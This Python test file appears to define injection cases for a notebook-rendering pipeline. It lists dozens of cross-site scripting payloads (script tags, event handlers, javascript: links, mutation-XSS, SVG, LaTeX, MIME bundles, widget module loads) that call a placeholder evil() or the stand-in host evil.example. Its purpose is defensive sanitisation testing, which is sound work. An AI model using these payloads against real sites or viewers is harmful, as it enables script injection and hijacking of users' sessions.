"""Active content in what an instructor reads: outputs, prose, tracebacks, names."""
# ruff: noqa: E501  (learners' code, which stands as it is handed in)

import nbformat
from nbformat.v4 import new_markdown_cell

from attacks import Attack

# What must not survive in a page; every one calls `evil` or fetches from evil.example.
HTML = {
    "script": "<script>evil()</script><script src='//evil.example/x.js'></script>",
    "event-handlers": "<img src=x onerror='evil()'><div onmouseover=evil() onclick=evil()>x</div><body onload=evil()>"
    "<details open ontoggle=evil()>x</details><input autofocus onfocus=evil()><video oncanplay=evil()></video>",
    "links": "<a href='javascript:evil()'>x</a><a href='JaVa&#115;cript&colon;evil()'>x</a><a href=' \x01javascript:evil()'>x</a>"
    "<a href='data:text/html,<script>evil()</script>'>x</a><a href='vbscript:evil()'>x</a><a ping=//evil.example href=#>x</a>",
    "frames": "<iframe src='//evil.example'></iframe><iframe srcdoc='<script>evil()</script>'></iframe>"
    "<object data='//evil.example/x.swf'></object><embed src='//evil.example'><frameset><frame src=//evil.example></frameset>"
    "<portal src=//evil.example></portal><applet code=evil></applet>",
    "forms": "<form action='//evil.example'><input name=q value=1><button formaction='javascript:evil()'>x</button></form>"
    "<isindex action=//evil.example><select><option>x</select><textarea>x</textarea>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'>"
    "<link rel=stylesheet href='//evil.example/x.css'><link rel=import href=//evil.example><link rel=prefetch href=//evil.example>",
    "style": "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x.png) } * { display: none }</style>"
    "<div style=\"background: url('//evil.example/x.png'); position: fixed; inset: 0; z-index: 99999\">x</div>"
    "<p style='width: expression(evil()); -moz-binding: url(//evil.example)'>x</p>",
    "remote-loads": "<img src='//evil.example/x.png'><img srcset='https://evil.example/x.png 1x'><video poster=//evil.example/x.png>"
    "<source src=//evil.example></video><audio src=//evil.example/x.mp3></audio><picture><source srcset=//evil.example></picture>"
    "<table background='//evil.example/x.png'><tr><td>x</table><input type=image src=//evil.example>",
    "svg-in-html": "<svg onload=evil()><script>evil()</script><foreignObject><iframe src=//evil.example></iframe></foreignObject>"
    "<a xlink:href='javascript:evil()'><text>x</text></a><animate onbegin=evil() attributeName=x />"
    "<set attributeName=onmouseover to=evil()></set><image href=//evil.example/x.png /><use href='//evil.example/x.svg#a'/></svg>",
    "mutations": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=evil()&gt;'>"
    "<noscript><p title='</noscript><img src=x onerror=evil()>'><svg></p><style><a id='</style><img src=1 onerror=evil()>'>"
    "<template><script>evil()</script></template><xmp><script>evil()</script></xmp><plaintext>",
    "breaking-out": "</div></div></body></html><script>evil()</script><!-- --><script>evil()</script><![CDATA[<script>evil()</script>]]>"
    "</pre></code></textarea></title><img src=x onerror=evil()>",
}  # fmt: skip
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'><script>evil()</script><foreignObject>"
    "<iframe src='https://evil.example'></iframe></foreignObject><a href='javascript:evil()'><text>x</text></a>"
    "<image href='https://evil.example/x.png'/><style>@import url(//evil.example);</style></svg>"
)
MATHS = r"""$\href{javascript:evil()}{x}$ $\unicode[evil]{x}$ $$\require{html}\class{evil}{x}\style{background:url(//evil.example)}{x}$$
$\def\frac{\href{javascript:evil()}}$ \begin{equation}\href{javascript:evil()}{x}\end{equation} $<img src=x onerror=evil()>$"""

SHOW = "from IPython.display import HTML, SVG, Javascript, JSON, Latex, Markdown, display, update_display\n"


def _html(name: str, text: str) -> Attack:
    shown = f"{SHOW}display(HTML({text!r}), Markdown({text!r}))\nprint({text!r})\nHTML({text!r})"
    return Attack(
        name,
        f"markup in outputs: {name.replace('-', ' ')}",
        end=(shown, f"raise ValueError({text!r})"),
        edit=lambda notebook: _prose(notebook, text),
    )


def _prose(notebook, text: str):
    notebook.cells.insert(1, new_markdown_cell(text, id="markup"))
    return notebook


def _mime(name: str, what: str, bundle: dict) -> Attack:
    return Attack(name, what, end=(f"{SHOW}display({bundle!r}, raw=True)",))


def _attached(notebook):
    import base64

    cell = new_markdown_cell("![x](attachment:x.svg) ![x](javascript:evil()) [x](javascript:evil())", id="attached")
    cell.attachments = nbformat.from_dict({"x.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}})
    notebook.cells.insert(1, cell)
    notebook.metadata.title = "</title><script>evil()</script>"
    notebook.metadata.authors = [{"name": "<script>evil()</script>"}]
    return notebook


ATTACKS = [
    *(_html(name, text) for name, text in HTML.items()),
    Attack("svg-output", "a figure in SVG with scripts in it", end=(f"{SHOW}display(SVG({SVG!r}))\nSVG({SVG!r})",)),
    Attack("maths", "formulas with links and macros", end=(f"{SHOW}display(Latex({MATHS!r}), Markdown({MATHS!r}))",),
           edit=lambda notebook: _prose(notebook, MATHS)),
    Attack("javascript-output", "output of the kind application/javascript", end=(f"{SHOW}Javascript('evil()', lib=['//evil.example/x.js'], css=['//evil.example/x.css'])\ndisplay(Javascript('evil()'))",)),
    _mime("odd-kinds", "output of kinds that front ends render with code", {
        "text/html": ["<script>", "evil()</script>"], "text/vnd.mermaid": "click x call evil()", "text/plain": "x",
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img src=x onerror=evil()>"}},
        "application/vnd.vega.v5+json": {"$schema": "x", "data": [{"url": "https://evil.example"}]},
        "application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2},
        "application/vnd.bokehjs_exec.v0+json": "evil()", "TEXT/HTML": "<script>evil()</script>", "text/html ": "<script>evil()</script>",
        "application/xhtml+xml": "<script xmlns='http://www.w3.org/1999/xhtml'>evil()</script>", "application/pdf": "JVBERi0=",
    }),
    _mime("pictures-that-are-none", "pictures whose data is markup", {
        "image/png": "\"><script>evil()</script><img src=\"", "image/jpeg": "x' onerror='evil()",
        "image/gif": "//evil.example/x.gif", "image/svg+xml": SVG, "text/plain": "<script>evil()</script>",
    }),
    Attack("widget-state", "widgets that load code", end=("""
import ipywidgets
from IPython.display import display
display(ipywidgets.HTML("<script>evil()</script><img src=x onerror=evil()>"))
view = ipywidgets.DOMWidget()
view._view_module, view._view_name, view._model_module = "https://evil.example/x.js", "Evil", "https://evil.example/x.js"
display(view)""",), unproven="where the evidence is taken no page loads a widget's module"),
    Attack("names-in-errors", "names of exceptions and files with markup in them", {
        "add": "Evil = type('<script>evil()</script>', (Exception,), {})\ndef add(a, b):\n    raise Evil('<img src=x onerror=evil()>')"
    }, end=("raise type('</pre><script>evil()</script>', (Exception,), {})('\\x1b]8;;javascript:evil()\\x07x\\x1b]8;;\\x07 \\x1b[38;5;\"onload=evil()m')",),
           unproven="nbconvert escapes tracebacks"),
    Attack("attachments", "an attached picture with scripts in it, links in prose, and a title that ends the title", edit=_attached),
    Attack("metadata-of-output", "metadata of outputs that becomes attributes of elements", end=(
        f"{SHOW}display({{'image/png': 'iVBORw0KGgo='}}, raw=True, metadata={{'image/png': {{'width': '1\" onload=\"evil()', 'height': '\\'><script>evil()</script>', 'alt': '\"><script>evil()</script>'}}, 'tags': ['\"><script>evil()</script>'], 'filenames': {{'image/png': '//evil.example'}}}})",
    )),
]  # fmt: skip
